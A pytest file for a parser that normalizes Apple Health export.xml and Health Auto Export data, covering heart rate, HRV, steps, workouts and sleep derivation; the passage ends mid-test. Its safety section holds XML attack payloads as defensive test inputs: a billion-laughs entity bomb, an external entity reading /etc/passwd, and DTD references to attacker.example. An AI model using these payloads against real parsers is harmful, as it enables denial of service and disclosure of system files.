"""Apple Health: export.xml and Health Auto Export parsing, and the derived daily values."""

from __future__ import annotations

import io
import json
import tracemalloc
from collections.abc import Iterator
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from auren_graphs.canonical import NormalizedBatch, Observation, PayloadError, RawInterval
from auren_graphs.ingestion.normalizers.apple import (
    normalize,
    normalize_stream,
)
from auren_graphs.ingestion.normalizers.apple_derive import (
    SESSION_GAP,
    derive_interval_totals,
    derive_sleep,
    source_priority,
)
from auren_graphs.ingestion.normalizers.common import NormalizeContext

if TYPE_CHECKING:
    from _typeshed import WriteableBuffer

FIXTURES = Path(__file__).parent.parent / "fixtures" / "apple"
CTX = NormalizeContext(user_id="user-alice")
PST = timezone(timedelta(hours=-8))
PDT = timezone(timedelta(hours=-7))
WATCH = "Alice’s Apple Watch"
IPHONE = "Alice’s iPhone"

HEADER = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!DOCTYPE HealthData [\n"
    "<!ELEMENT HealthData (ExportDate,Me,(Record|Correlation|Workout|ActivitySummary)*)>\n"
    "<!ATTLIST HealthData locale CDATA #REQUIRED>\n"
    "<!ELEMENT Record ((MetadataEntry|HeartRateVariabilityMetadataList)*)>\n"
    "]>\n"
    '<HealthData locale="en_US">\n'
    ' <ExportDate value="2026-11-03 08:15:42 -0800"/>\n'
)
FOOTER = "</HealthData>\n"


# --- helpers ---------------------------------------------------------------------------------


def fixture_batch() -> NormalizedBatch:
    return normalize((FIXTURES / "export.xml").read_bytes(), CTX)


def record(
    kind: str,
    value: str,
    start: str,
    end: str | None = None,
    unit: str = "count/min",
    source: str = WATCH,
) -> str:
    return (
        f' <Record type="{kind}" sourceName="{source}" unit="{unit}" '
        f'startDate="{start}" endDate="{end or start}" value="{value}"/>\n'
    )


def export(*records: str) -> str:
    return HEADER + "".join(records) + FOOTER


def observations(batch: NormalizedBatch, metric: str) -> list[Observation]:
    return [o for o in batch.observations if o.metric == metric]


def intervals(batch: NormalizedBatch, kind: str) -> list[RawInterval]:
    return [i for i in batch.intervals if i.kind == kind]


def at(text: str) -> datetime:
    return datetime.fromisoformat(text)


_counter = iter(range(10**9))


def span(kind: str, start: str, end: str, value: float | str, source: str = WATCH) -> RawInterval:
    return RawInterval(kind, at(start), at(end), value, source, f"test:{next(_counter)}")


def steps(start: str, end: str, value: float, source: str = WATCH) -> RawInterval:
    return span("apple_steps", start, end, value, source)


def stage(start: str, end: str, value: str, source: str = WATCH) -> RawInterval:
    return span("apple_sleep", start, end, value, source)


class GeneratedExport(io.RawIOBase):
    """A synthetic export.xml produced on the fly, so the test holds no copy of it."""

    def __init__(self, records: int) -> None:
        self._lines = self._generate(records)
        self._pending = b""
        self.size = 0

    @staticmethod
    def _generate(records: int) -> Iterator[bytes]:
        yield HEADER.encode()
        for n in range(records):
            # A heart rate and a 30 s step sample each minute from 2026-01-01 00:00 -0800.
            day, minute = divmod(n // 2, 24 * 60)
            moment = f"2026-01-{1 + day % 28:02d} {minute // 60:02d}:{minute % 60:02d}:00 -0800"
            if n % 2:
                line = record("HKQuantityTypeIdentifierHeartRate", str(60 + n % 40), moment)
            else:
                later = moment.replace(":00 -", ":30 -")
                line = record(
                    "HKQuantityTypeIdentifierStepCount", str(n % 50), moment, later, "count"
                )
            yield line.encode()
        yield FOOTER.encode()

    def readable(self) -> bool:
        return True

    def readinto(self, buffer: WriteableBuffer) -> int:
        view = memoryview(buffer).cast("B")
        while len(self._pending) < len(view):
            line = next(self._lines, None)
            if line is None:
                break
            self._pending += line
        size = min(len(view), len(self._pending))
        view[:size] = self._pending[:size]
        self._pending = self._pending[size:]
        self.size += size
        return size


# --- export.xml: record types ------------------------------------------------------------------


def test_real_export_with_internal_dtd_subset_is_read() -> None:
    batch = fixture_batch()
    # Every direct child of <HealthData> but ExportDate and Me, unknown types included;
    # the two Records repeated inside the Correlation are not counted again.
    assert batch.records_seen == 31


def test_heart_rate_is_a_sample_at_its_start() -> None:
    [heart_rate] = observations(fixture_batch(), "heart_rate")
    assert heart_rate.value == 72
    assert heart_rate.timestamp == datetime(2026, 11, 2, 7, 30, tzinfo=PST)
    assert heart_rate.day == date(2026, 11, 2)
    assert heart_rate.device == "apple_health"


def test_hrv_stays_sdnn_and_is_never_rmssd() -> None:
    batch = fixture_batch()
    assert observations(batch, "hrv_rmssd") == []
    [hrv] = observations(batch, "hrv_sdnn")
    assert hrv.value == 48.5
    assert hrv.timestamp == datetime(2026, 11, 2, 6, 10, 12, tzinfo=PST)


def test_resting_heart_rate_and_respiratory_rate() -> None:
    batch = fixture_batch()
    [resting] = observations(batch, "resting_heart_rate")
    [breathing] = observations(batch, "respiratory_rate")
    assert (resting.value, resting.day) == (54, date(2026, 11, 2))
    assert (breathing.value, breathing.day) == (14.5, date(2026, 11, 2))


def test_oxygen_saturation_fraction_becomes_percent() -> None:
    [spo2] = observations(fixture_batch(), "spo2")
    assert spo2.value == pytest.approx(97.0)


def test_heart_rate_in_an_unexpected_unit_is_rejected_with_a_reason() -> None:
    rejected = [r for r in fixture_batch().rejections if "count/s" in r.reason]
    assert len(rejected) == 1
    assert "count/min" in rejected[0].reason
    assert "Polar Flow" in rejected[0].ref


def test_record_without_an_offset_is_rejected_with_a_reason() -> None:
    rejected = [r for r in fixture_batch().rejections if "offset" in r.reason]
    assert len(rejected) == 1
    assert "2026-11-02 08:00:00" in rejected[0].reason


def test_unknown_record_types_are_ignored_silently() -> None:
    batch = fixture_batch()
    assert len(batch.rejections) == 2  # the two heart rates above, nothing else
    kept = {o.metric for o in batch.observations} | {i.kind for i in batch.intervals}
    assert not any("pressure" in name or "basal" in name for name in kept)


def test_steps_energy_and_sleep_become_raw_intervals() -> None:
    batch = fixture_batch()
    [watch, iphone, midnight] = intervals(batch, "apple_steps")
    assert (watch.source, watch.value) == (WATCH, 1000.0)
    assert watch.start == datetime(2026, 11, 2, 9, 0, tzinfo=PST)
    assert iphone.source == IPHONE
    assert midnight.end == datetime(2026, 11, 3, 0, 10, tzinfo=PST)
    assert {i.value for i in intervals(batch, "apple_sleep")} == {
        "core",
        "deep",
        "rem",
        "awake",
        "in_bed",
        "asleep_unspecified",
    }
    assert observations(batch, "steps") == []


def test_active_energy_in_kj_and_kcal_is_kept_in_kcal() -> None:
    energy = intervals(fixture_batch(), "apple_active_energy")
    assert [i.value for i in energy] == pytest.approx([50.0, 100.0])
    assert derive_interval_totals(energy) == {date(2026, 11, 2): pytest.approx(150.0)}


def test_workout_with_total_attributes() -> None:
    batch = fixture_batch()
    run_day = date(2026, 11, 2)
    values = {
        o.metric: o.value
        for o in batch.observations
        if o.day == run_day and o.metric.startswith("workout_")
    }
    assert values == {
        "workout_duration": pytest.approx(1830.0),
        "workout_energy": pytest.approx(321.5),
        "workout_distance": pytest.approx(5020.0),
    }


def test_workout_with_workout_statistics_children() -> None:
    batch = fixture_batch()
    ride_day = date(2026, 11, 3)
    values = {o.metric: o.value for o in batch.observations if o.day == ride_day}
    assert values == {
        "workout_duration": pytest.approx(2700.0),
        "workout_energy": pytest.approx(400.0),  # 1673.6 kJ
        "workout_distance": pytest.approx(20500.0),
        "workout_average_heart_rate": pytest.approx(138.0),
        "workout_max_heart_rate": pytest.approx(171.0),
    }


def test_workout_in_an_unknown_unit_rejects_only_that_value() -> None:
    workout = (
        ' <Workout workoutActivityType="HKWorkoutActivityTypeRunning" duration="30" '
        'durationUnit="min" totalDistance="3" totalDistanceUnit="furlong" sourceName="W" '
        'startDate="2026-11-02 17:00:00 -0800" endDate="2026-11-02 17:30:00 -0800"/>\n'
    )
    batch = normalize(export(workout), CTX)
    assert [o.metric for o in batch.observations] == ["workout_duration"]
    [rejected] = batch.rejections
    assert "furlong" in rejected.reason
    assert rejected.ref == "HKWorkoutActivityTypeRunning 2026-11-02 17:00:00 -0800 (W)"


# --- export.xml: safety and errors -------------------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE HealthData [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<HealthData locale="en_US">
 <Record type="HKQuantityTypeIdentifierHeartRate" sourceName="&lol9;" unit="count/min"
   startDate="2026-11-02 07:30:00 -0800" endDate="2026-11-02 07:30:00 -0800" value="72"/>
</HealthData>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<HealthData locale="en_US">
 <Record type="HKQuantityTypeIdentifierHeartRate" sourceName="&xxe;" unit="count/min"
   startDate="2026-11-02 07:30:00 -0800" endDate="2026-11-02 07:30:00 -0800" value="72"/>
</HealthData>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE HealthData [ <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; ]>
<HealthData locale="en_US"/>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE HealthData SYSTEM "http://attacker.example/health.dtd">
<HealthData locale="en_US"/>
"""


@pytest.mark.parametrize("as_bytes", [False, True])
def test_billion_laughs_is_refused(as_bytes: bool) -> None:
    payload = BILLION_LAUGHS.encode() if as_bytes else BILLION_LAUGHS
    with pytest.raises(PayloadError, match="entity declarations are not allowed"):
        normalize(payload, CTX)


@pytest.mark.parametrize(
    ("document", "names"),
    [
        (EXTERNAL_ENTITY, "file:///etc/passwd"),
        (PARAMETER_ENTITY, "http://attacker.example/evil.dtd"),
        (EXTERNAL_DTD, "http://attacker.example/health.dtd"),
    ],
)
def test_external_entities_and_dtds_are_refused(document: str, names: str) -> None:
    with pytest.raises(PayloadError, match=r"XML external .* not allowed") as caught:
        normalize(document, CTX)
    assert names in str(caught.value)


def test_attack_in_a_stream_is_refused() -> None:
    with pytest.raises(PayloadError, match="entity declarations are not allowed"):
        list(normalize_stream(io.BytesIO(BILLION_LAUGHS.encode()), CTX))


@pytest.mark.parametrize(
    ("document", "where"),
    [
        (export(" <Record type='x' sourceName='W'>\n"), "line 10"),  # never closed
        (HEADER + ' <Record type="x" sourceName="W" ', "line 9"),  # truncated
        ("<HealthData><Record type=x/></HealthData>", "line 1"),  # unquoted attribute
        (export(' <Record sourceName="&nbsp;"/>\n'), "line 9"),  # undefined entity
    ],
)
def test_malformed_xml_says_where(document: str, where: str) -> None:
    with pytest.raises(PayloadError, match="malformed XML") as caught:
        normalize(document, CTX)
    assert where in str(caught.value)


def test_a_document_that_is_not_an_export_is_refused() -> None:
    with pytest.raises(PayloadError, match="root element is <plist>"):
        normalize('<?xml version="1.0"?><plist version="1.0"><dict/></plist>', CTX)


@pytest.mark.parametrize("payload", ["", "hello", 42, None])
def test_other_payloads_are_refused(payload: object) -> None:
    with pytest.raises(PayloadError):
        normalize(payload, CTX)


def test_a_fragment_of_records_without_its_root_is_read() -> None:
    fragment = '<?xml version="1.0" encoding="UTF-8"?>\n' + "".join(
        record("HKQuantityTypeIdentifierHeartRate", str(70 + n), f"2026-11-02 07:3{n}:00 -0800")
        for n in range(3)
    )
    batch = normalize(fragment, CTX)
    assert [o.value for o in observations(batch, "heart_rate")] == [70, 71, 72]


# --- identities ----------------------------------------------------------------------------------


def test_identities_are_stable_across_deliveries() -> None:
    first, second = fixture_batch(), fixture_batch()
    assert [o.identity for o in first.observations] == [o.identity for o in second.observations]
    assert [i.identity for i in first.intervals] == [i.identity for i in second.intervals]
    assert len({o.identity for o in first.observations}) == len(first.observations)
    assert all(len(o.identity) < 80 for o in first.observations)


def test_a_corrected_value_keeps_its_identity() -> None:
    kind, start = "HKQuantityTypeIdentifierRestingHeartRate", "2026-11-02 00:00:04 -0800"
    [before] = normalize(export(record(kind, "54", start)), CTX).observations
    [after] = normalize(export(record(kind, "55", start)), CTX).observations
    assert before.identity == after.identity
    assert (before.value, after.value) == (54, 55)


def test_the_same_instant_rendered_in_another_offset_keeps_its_identity() -> None:
    # Apple renders every date in the phone's time zone at export time.
    kind = "HKQuantityTypeIdentifierHeartRate"
    [home] = normalize(export(record(kind, "61", "2026-11-02 07:30:00 -0800")), CTX).observations
    [away] = normalize(export(record(kind, "61", "2026-11-02 10:30:00 -0500")), CTX).observations
    assert home.identity == away.identity


def test_sources_and_types_are_told_apart() -> None:
    start = "2026-11-02 07:30:00 -0800"
    batch = normalize(
        export(
            record("HKQuantityTypeIdentifierHeartRate", "61", start, source=WATCH),
            record("HKQuantityTypeIdentifierHeartRate", "61", start, source="Polar Flow"),
            record("HKQuantityTypeIdentifierRestingHeartRate", "61", start, source=WATCH),
        ),
        CTX,
    )
    assert len({o.identity for o in batch.observations}) == 3


# --- streaming -----------------------------------------------------------------------------------


def test_normalize_and_normalize_stream_agree() -> None:
    data = (FIXTURES / "export.xml").read_bytes()
    whole = normalize(data, CTX)
    merged = NormalizedBatch()
    batches = list(normalize_stream(io.BytesIO(data), CTX, batch_records=4))
    for batch in batches:
        merged.extend(batch)
    assert [b.records_seen for b in batches] == [4] * 7 + [3]
    assert merged.observations == whole.observations
    assert merged.intervals == whole.intervals
    assert merged.rejections == whole.rejections


def test_streaming_a_large_export_keeps_memory_bounded() -> None:
    # tracemalloc slows parsing down about fivefold, so the document is kept moderate:
    # its text is ~6 MB, and its records take ~13 MB when they are all kept.
    records = 30_000
    source = GeneratedExport(records)
    tracemalloc.start()
    try:
        sizes, samples = [], 0
        for batch in normalize_stream(io.BufferedReader(source), CTX, batch_records=1_000):
            sizes.append(batch.records_seen)
            samples += len(batch.observations) + len(batch.intervals)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sizes == [1_000] * 30
    assert samples == records
    assert source.size > 5 * 2**20
    # One batch, the parser's buffers and the timestamp cache; not the document.
    assert peak < 4 * 2**20


def test_batch_records_must_be_positive() -> None:
    with pytest.raises(ValueError, match="batch_records"):
        list(normalize_stream(io.BytesIO(b"<HealthData/>"), CTX, batch_records=0))


# --- derivation: steps and energy -------------------------------------------------------------


def test_source_priority_watch_then_iphone_then_apps() -> None:
    assert source_priority(WATCH) > source_priority(IPHONE) > source_priority("Strava")
    assert source_priority("Bob's Apple Watch Ultra") == source_priority(WATCH)


def test_overlapping_watch_and_iphone_steps_count_once() -> None:
    totals = derive_interval_totals(intervals(fixture_batch(), "apple_steps"))
    # Watch 1000 over 09:00-09:10; the iPhone's 09:05-09:15 counts only for 09:10-09:15
    # (half its 600); its 23:50-00:10 sample is split 100/100 across midnight.
    assert totals == {date(2026, 11, 2): pytest.approx(1400.0), date(2026, 11, 3): 100.0}


def test_the_same_sample_delivered_twice_counts_once() -> None:
    first, second = fixture_batch(), fixture_batch()
    both = intervals(first, "apple_steps") + intervals(second, "apple_steps")
    assert derive_interval_totals(both) == derive_interval_totals(intervals(first, "apple_steps"))


def test_a_sample_crossing_midnight_is_split_pro_rata() -> None:
    sample = steps("2026-11-02T23:00:00-08:00", "2026-11-03T02:00:00-08:00", 300)
    assert derive_interval_totals([sample]) == {
        date(2026, 11, 2): pytest.approx(100.0),
        date(2026, 11, 3): pytest.approx(200.0),
    }


def test_a_multi_day_sample_is_split_over_every_day() -> None:
    sample = steps("2026-11-01T12:00:00-08:00", "2026-11-03T12:00:00-08:00", 480)
    assert derive_interval_totals([sample]) == {
        date(2026, 11, 1): pytest.approx(120.0),
        date(2026, 11, 2): pytest.approx(240.0),
        date(2026, 11, 3): pytest.approx(120.0),
    }


def test_overlapping_samples_of_one_source_count_once() -> None:
    totals = derive_interval_totals(
        [
            steps("2026-11-02T09:00:00-08:00", "2026-11-02T09:10:00-08:00", 100),
            steps("2026-11-02T09:00:00-08:00", "2026-11-02T09:10:00-08:00", 100),
            steps("2026-11-02T09:05:00-08:00", "2026-11-02T09:15:00-08:00", 100),
        ]
    )
    assert totals == {date(2026, 11, 2): pytest.approx(150.0)}


def test_a_lower_ranked_source_fills_gaps_only() -> None:
    totals = derive_interval_totals(
        [
            steps("2026-11-02T09:00:00-08:00", "2026-11-02T10:00:00-08:00", 600, "Strava"),
            steps("2026-11-02T09:20:00-08:00", "2026-11-02T09:40:00-08:00", 50, IPHONE),
        ]
    )
    assert totals == {date(2026, 11, 2): pytest.approx(400.0 + 50.0)}


def test_instantaneous_totals_count_unless_raw_samples_cover_them() -> None:
    covered = steps("2026-11-02T09:05:00-08:00", "2026-11-02T09:05:00-08:00", 999, "HAE")
    alone = steps("2026-11-02T12:00:00-08:00", "2026-11-02T12:00:00-08:00", 40, "HAE")
    watch = steps("2026-11-02T09:00:00-08:00", "2026-11-02T09:10:00-08:00", 100)
    assert derive_interval_totals([covered, alone, watch]) == {date(2026, 11, 2): 140.0}


def test_a_day_follows_the_samples_own_offset() -> None:
    # 23:30-00:30 in -08:00 is 07:30-08:30 UTC: the split is at local midnight.
    sample = steps("2026-11-02T23:30:00-08:00", "2026-11-03T00:30:00-08:00", 60)
    assert derive_interval_totals([sample]) == {
        date(2026, 11, 2): pytest.approx(30.0),
        date(2026, 11, 3): pytest.approx(30.0),
    }


def test_intervals_of_different_kinds_are_not_mixed() -> None:
    energy = span(
        "apple_active_energy", "2026-11-02T09:00:00-08:00", "2026-11-02T09:10:00-08:00", 5.0
    )
    sample = steps("2026-11-02T09:00:00-08:00", "2026-11-02T09:10:00-08:00", 5)
    with pytest.raises(ValueError, match="several kinds"):
        derive_interval_totals([energy, sample])


# --- derivation: sleep ---------------------------------------------------------------------------


def test_fixture_nights_across_dst_and_midnight() -> None:
    stages = intervals(fixture_batch(), "apple_sleep")
    assert min(s.start for s in stages).utcoffset() == PDT.utcoffset(None)  # kept as given
    nights = derive_sleep(stages)
    # 2026-10-31 23:00 PDT to 2026-11-01 06:00 PST is 8 h, not the 7 h of the wall clock.
    assert nights[date(2026, 11, 1)] == {
        "sleep_duration": pytest.approx(8 * 3600),
        "time_in_bed": pytest.approx(8 * 3600),
        "sleep_light_duration": pytest.approx(2.5 * 3600 + 4.75 * 3600),
        "sleep_deep_duration": pytest.approx(0.75 * 3600),
        "sleep_rem_duration": 0.0,
        "sleep_awake_duration": 0.0,
    }
    # The Watch outranks AutoSleep's record of the same night; time in bed is the
    # iPhone's InBed sample (23:00-06:45), Apple's definition, not the span of the
    # Watch's stages (23:10-06:30); the afternoon sleep is a nap.
    assert nights[date(2026, 11, 2)] == {
        "sleep_duration": pytest.approx(7 * 3600 + 10 * 60),
        "time_in_bed": pytest.approx(7 * 3600 + 45 * 60),
        "sleep_light_duration": pytest.approx(5 * 3600 + 40 * 60),
        "sleep_deep_duration": pytest.approx(3600),
        "sleep_rem_duration": pytest.approx(1800),
        "sleep_awake_duration": pytest.approx(600),
        "nap_duration": pytest.approx(2400),
    }


def test_a_night_belongs_to_the_day_it_ends() -> None:
    night = [
        stage("2026-11-02T22:30:00-08:00", "2026-11-03T02:00:00-08:00", "core"),
        stage("2026-11-03T02:00:00-08:00", "2026-11-03T06:00:00-08:00", "deep"),
    ]
    assert list(derive_sleep(night)) == [date(2026, 11, 3)]


def test_dst_night_stage_lengths_are_true_durations() -> None:
    night = [
        stage("2026-11-01T00:30:00-07:00", "2026-11-01T01:30:00-07:00", "rem"),
        stage("2026-11-01T01:30:00-07:00", "2026-11-01T01:30:00-08:00", "deep"),
    ]
    day = derive_sleep(night)[date(2026, 11, 1)]
    assert day["sleep_deep_duration"] == pytest.approx(3600)  # 01:30 happened twice
    assert day["sleep_duration"] == pytest.approx(7200)


def test_one_night_in_two_deliveries_gives_the_whole_night() -> None:
    early = [stage("2026-11-02T23:00:00-08:00", "2026-11-03T03:00:00-08:00", "core")]
    late = [stage("2026-11-03T03:00:00-08:00", "2026-11-03T07:00:00-08:00", "deep")]
    assert derive_sleep(early + late)[date(2026, 11, 3)]["sleep_duration"] == 8 * 3600


def test_the_longest_sleep_is_main_and_the_others_are_naps() -> None:
    nights = derive_sleep(
        [
            stage("2026-11-02T13:00:00-08:00", "2026-11-02T13:30:00-08:00", "core"),
            stage("2026-11-02T01:00:00-08:00", "2026-11-02T07:00:00-08:00", "core"),
            stage("2026-11-02T17:00:00-08:00", "2026-11-02T17:20:00-08:00", "core"),
        ]
    )
    assert nights[date(2026, 11, 2)]["sleep_duration"] == 6 * 3600
    assert nights[date(2026, 11, 2)]["nap_duration"] == 50 * 60


@pytest.mark.parametrize(("gap_minutes", "sessions"), [(59, 1), (60, 1), (61, 2)])
def test_sessions_split_where_the_gap_exceeds_an_hour(gap_minutes: int, sessions: int) -> None:
    assert timedelta(minutes=60) == SESSION_GAP
    first_end = datetime(2026, 11, 3, 3, 0, tzinfo=PST)
    second_start = first_end + timedelta(minutes=gap_minutes)
    night = [
        stage("2026-11-02T23:00:00-08:00", first_end.isoformat(), "core"),
        stage(second_start.isoformat(), "2026-11-03T07:00:00-08:00", "core"),
    ]
    day = derive_sleep(night)[date(2026, 11, 3)]
    assert ("nap_duration" in day) == (sessions == 2)


def test_a_third_party_app_does_not_add_to_the_watch() -> None:
    night = [
        stage(
            "2026-11-02T23:00:00-08:00",
            "2026-11-03T06:00:00-08:00",
            "asleep_unspecified",
            "AutoSleep",
        ),
        stage("2026-11-02T23:30:00-08:00", "2026-11-03T06:00:00-08:00", "core"),
    ]
    assert derive_sleep(night)[date(2026, 11, 3)]["sleep_duration"] == 6.5 * 3600


def test_in_bed_intervals_of_the_chosen_source_give_time_in_bed() -> None:
    night = [
        stage("2026-11-02T22:00:00-08:00", "2026-11-03T07:00:00-08:00", "in_bed", "SleepWatch"),
        stage(
            "2026-11-02T23:00:00-08:00",
            "2026-11-03T06:00:00-08:00",
            "asleep_unspecified",
            "SleepWatch",
        ),
        stage("2026-11-02T22:30:00-08:00", "2026-11-03T06:30:00-08:00", "in_bed", "SleepWatch"),
    ]
    day = derive_sleep(night)[date(2026, 11, 3)]
    assert day["time_in_bed"] == 9 * 3600  # the union, not the sum
    assert day["sleep_duration"] == 7 * 3600
    # An unstaged night has no stage durations rather than zeros.
    assert "sleep_deep_duration" not in day


def test_in_bed_only_gives_time_in_bed_but_no_sleep() -> None:
    night = [stage("2026-11-02T23:00:00-08:00", "2026-11-03T07:00:00-08:00", "in_bed", IPHONE)]
    assert derive_sleep(night) == {date(2026, 11, 3): {"time_in_bed": 8 * 3600}}


def test_a_stage_delivered_twice_counts_once() -> None:
    core = stage("2026-11-02T23:00:00-08:00", "2026-11-03T06:00:00-08:00", "core")
    assert derive_sleep([core, core])[date(2026, 11, 3)]["sleep_duration"] == 7 * 3600


# --- Health Auto Export --------------------------------------------------------------------------


def hae_batch() -> NormalizedBatch:
    return normalize(json.loads((FIXTURES / "health_auto_export.json").read_text()), CTX)


def test_hae_samples_map_to_canonical_metrics() -> None:
    batch = hae_batch()
    assert [o.value for o in observations(batch, "heart_rate")] == [71.5, 70]
    assert observations(batch, "heart_rate")[0].timestamp == datetime(
        2026, 11, 2, 7, 30, tzinfo=PST
    )
    assert [o.value for o in observations(batch, "hrv_sdnn")] == [48.5, 61.2]
    assert observations(batch, "hrv_rmssd") == []
    assert [o.value for o in observations(batch, "resting_heart_rate")] == [53]
    assert [o.value for o in observations(batch, "respiratory_rate")] == [14.5]
    assert [o.value for o in observations(batch, "spo2")] == [97]
    assert batch.rejections == []


def test_hae_totals_become_instantaneous_intervals() -> None:
    batch = hae_batch()
    step_totals = intervals(batch, "apple_steps")
    assert [i.value for i in step_totals] == [1250, 40]
    assert all(i.start == i.end for i in step_totals)
    assert derive_interval_totals(step_totals) == {date(2026, 11, 2): 1290.0}
    [energy] = intervals(batch, "apple_active_energy")
    assert energy.value == pytest.approx(100.0)  # 418.4 kJ


def test_hae_summarised_sleep_night() -> None:
    batch = hae_batch()
    night = {
        o.metric: o.value for o in batch.observations if o.metric.startswith(("sleep", "time"))
    }
    assert night == {
        "sleep_duration": pytest.approx(7.25 * 3600),
        "time_in_bed": pytest.approx(7.75 * 3600),
        "sleep_light_duration": pytest.approx(4.5 * 3600),
        "sleep_deep_duration": pytest.approx(1.25 * 3600),
        "sleep_rem_duration": pytest.approx(1.5 * 3600),
        "sleep_awake_duration": pytest.approx(0.25 * 3600),
    }
    assert {o.day for o in batch.observations if o.metric == "sleep_duration"} == {
        date(2026, 11, 2)
    }


def test_hae_workout_version_2() -> None:
    workout = {
        o.metric: o.value for o in hae_batch().observations if o.metric.startswith("workout_")
    }
    assert workout == {
        "workout_duration": 1830,
        "workout_energy": pytest.approx(321.5),
        "workout_distance": pytest.approx(3.12 * 1609.344),
        "workout_average_heart_rate": 152,
        "workout_max_heart_rate": 178,
    }


def test_hae_unknown_metrics_are_counted_and_ignored() -> None:
    batch = hae_batch()
    assert batch.records_seen == 13  # 12 data points and 1 workout
    assert not [
        o
        for o in batch.observations
        if "distance" in o.metric and not o.metric.startswith("workout_")
    ]


def test_hae_json_text_and_bytes_are_detected() -> None:
    text = (FIXTURES / "health_auto_export.json").read_text()
    expected = hae_batch().observations
    assert normalize(text, CTX).observations == expected
    assert normalize(text.encode(), CTX).observations == expected
    assert normalize("\ufeff" + text, CTX).observations == expected
    assert normalize(b"\xef\xbb\xbf" + text.encode(), CTX).observations == expected


def test_hae_sleep_stages_share_identities_with_export_xml() -> None:
    document = {
        "data": {
            "metrics": [
                {
                    "name": "sleep_analysis",
                    "units": "hr",
                    "data": [
                        {
                            "startDate": "2026-11-02 01:00:00 -0800",
                            "endDate": "2026-11-02 02:00:00 -0800",
                            "qty": 1.0,
                            "value": "Deep",
                            "source": WATCH,
                        }
                    ],
                }
            ]
        }
    }
    [from_hae] = normalize(document, CTX).intervals
    from_xml = next(
        i
        for i in intervals(fixture_batch(), "apple_sleep")
        if i.value == "deep" and i.start == at("2026-11-02T01:00:00-08:00")
    )
    assert from_hae == from_xml


def test_hae_bad_points_are_rejected_one_by_one() -> None:
    document = {
        "data": {
            "metrics": [
                {
                    "name": "heart_rate",
                    "units": "count/s",
                    "data": [{"date": "2026-11-02 07:30:00 -0800", "Avg": 1.2}],
                },
                {
                    "name": "resting_heart_rate",
                    "units": "bpm",
                    "data": [
                        {"date": "2026-11-02 07:30:00", "qty": 50},
                        {"date": "2026-11-02 07:30:00 -0800", "qty": "fifty"},
                        {"date": "2026-11-02 07:30:00 -0800", "qty": 51},
                    ],
                },
            ],
            "workouts": [],
        }
    }
    batch = normalize(document, CTX)
    assert [o.value for o in batch.observations] == [51]
    reasons = " | ".join(r.reason for r in batch.rejections)
    assert "count/s" in reasons
    assert "offset" in reasons
    assert "not a number" in reasons


@pytest.mark.parametrize(
    "document",
    [{"data": []}, {"something": "else"}, [1, 2], {"data": {"metrics": {}}}],
)
def test_not_a_hae_document_is_refused(document: object) -> None:
    with pytest.raises(PayloadError, match="Health Auto Export"):
        normalize(document, CTX)


def test_hae_workout_version_1_and_spo2_fraction() -> None:
    document = {
        "data": {
            "metrics": [
                {
                    "name": "blood_oxygen_saturation",
                    "units": "%",
                    "data": [{"date": "2026-11-02 04:00:00 -0800", "qty": 0.96}],
                }
            ],
            "workouts": [
                {
                    "name": "Walking",
                    "start": "2026-11-02 08:02:43 -0800",
                    "end": "2026-11-02 08:21:53 -0800",
                    "activeEnergy": {"qty": 226.2, "units": "kJ"},
                    "avgHeartRate": {"qty": 108, "units": "bpm"},
                    "maxHeartRate": {"qty": 121, "units": "count/min"},
                }
            ],
        }
    }
    values = {o.metric: o.value for o in normalize(document, CTX).observations}
    assert values == {
        "spo2": pytest.approx(96.0),
        "workout_duration": 1150.0,  # the span: version 1 has no documented duration unit
        "workout_energy": pytest.approx(226.2 / 4.184),
        "workout_average_heart_rate": 108,
        "workout_max_heart_rate": 121,
    }


def test_an_interval_ending_before_it_starts_is_rejected() -> None:
    batch = normalize(
        export(
            record(
                "HKQuantityTypeIdentifierStepCount",
                "10",
                "2026-11-02 09:10:00 -0800",
                "2026-11-02 09:00:00 -0800",
                "count",
            )
        ),
        CTX,
    )
    assert batch.intervals == []
    assert "before it starts" in batch.rejections[0].reason


@pytest.mark.parametrize(
    "text",
    [
        "2026-11-02 07:30:00 -0800",
        "2026-03-08 03:09:04 -0700",
        "2026-11-02 07:30:00 +0000",
        "2026-11-02 07:30:00 -0000",
        "2026-11-02 07:30:00 +0530",
        "2026-11-02 07:30:00 +1345",
        "2026-11-02T07:30:00-08:00",
        "2026-11-02 07:30:00.250 -0800",
    ],
)
def test_apples_own_text_gives_the_same_iso_text_as_the_datetime(text: str) -> None:
    from auren_graphs.ingestion.normalizers.apple_types import apple_iso

    sliced = apple_iso(text)
    assert sliced is None or sliced == datetime.fromisoformat(text).isoformat()
    apple_shape = len(text) == 25 and text[10] == " " and not text.endswith("-0000")
    assert (sliced is not None) == apple_shape


def test_a_heart_rate_row_stores_the_same_text_either_way() -> None:
